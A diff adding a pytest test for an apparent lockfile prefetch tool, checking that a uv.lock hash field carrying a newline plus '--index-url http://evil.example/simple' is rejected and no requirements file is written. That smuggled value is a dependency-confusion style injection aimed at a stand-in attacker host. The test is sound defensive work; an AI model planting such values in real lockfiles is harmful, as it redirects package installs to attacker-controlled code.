@@ -174,3 +174,23 @@ def test_redaction_is_linear_in_the_length_of_the_text() -> None:
     assert time.monotonic() - start < 2.0  # quadratic: minutes; linear: milliseconds
     assert redact("https://u:p@h/s?a=b?token=x") == "https://u:****@h/s?a=b?token=****"
     assert redact("x://a://b@h") == "x://a://****@h"
+
+
+def test_a_hash_that_would_inject_a_requirements_line_is_one_line(
+    locked_project: LockedProject, capsys: pytest.CaptureFixture[str]
+) -> None:
+    project = locked_project("pure")
+    lock = project / "uv.lock"
+    text = lock.read_text()
+    injected = r'hash = "sha256:00\n--index-url http://evil.example/simple"'
+    lock.write_text(
+        re.sub(
+            r"(" + re.escape(GAMMA) + r'", )hash = "[^"]*"',
+            r"\1" + injected.replace("\\", "\\\\"),
+            text,
+        )
+    )
+    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12", "--frozen")
+    assert rc == 2
+    assert "is not a sha256" in error_line(err)
+    assert not (project / ".uvci" / "wheels" / "requirements-3.12.txt").exists()
